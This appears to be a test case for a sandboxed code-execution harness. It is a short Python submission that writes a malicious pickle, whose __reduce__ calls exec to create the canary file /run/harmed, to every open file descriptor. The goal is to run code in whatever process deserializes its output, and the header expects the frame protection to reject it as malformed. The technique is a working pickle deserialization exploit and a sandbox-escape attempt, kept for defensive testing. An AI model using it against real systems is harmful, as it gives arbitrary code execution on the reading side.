# tries: attack the reader: a pickle in the place of a frame, which runs code when it is read
# protections: frame
# outcome: malformed output
# canary: reader pickle
import os
import pickle


class Harm:
    def __reduce__(self):
        return exec, ("open('/run/harmed', 'w').close()",)


made = pickle.dumps(Harm())
for descriptor in range(3, 64):
    try:
        os.write(descriptor, made)
    except OSError:
        pass
os._exit(0)


def reparameterize(mu, logvar, eps):
    return mu
